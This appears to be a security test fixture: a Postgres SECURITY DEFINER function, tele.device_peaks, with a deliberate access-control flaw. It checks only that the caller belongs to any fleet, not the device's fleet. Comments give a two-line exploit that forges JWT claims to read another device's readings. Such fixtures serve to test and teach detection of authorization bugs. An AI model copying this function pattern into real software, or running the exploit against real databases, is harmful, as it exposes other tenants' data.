-- A chart uses a function with its owner's rights that checks the user, not the device's fleet.
-- about: device_peaks, readings
-- as: hf_telemetry_app
-- exploit: SET request.jwt.claims = '{"sub": "a0000000-0000-0000-0000-0000000000aa"}';
-- exploit: SELECT * FROM tele.device_peaks('b0000000-0000-0000-0000-000000000002');
-- shows: reading-secret
CREATE FUNCTION tele.device_peaks(p_device uuid) RETURNS TABLE (kind text, peak double precision, note text)
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = tele, pg_temp AS $$
  SELECT r.kind, max(r.value), max(r.note) FROM tele.readings r
  WHERE r.device_id = p_device
    AND EXISTS (SELECT 1 FROM tele.fleet_users m WHERE m.user_id = tele.uid())
  GROUP BY r.kind
$$;
REVOKE ALL ON FUNCTION tele.device_peaks(uuid) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION tele.device_peaks(uuid) TO hf_telemetry_app;
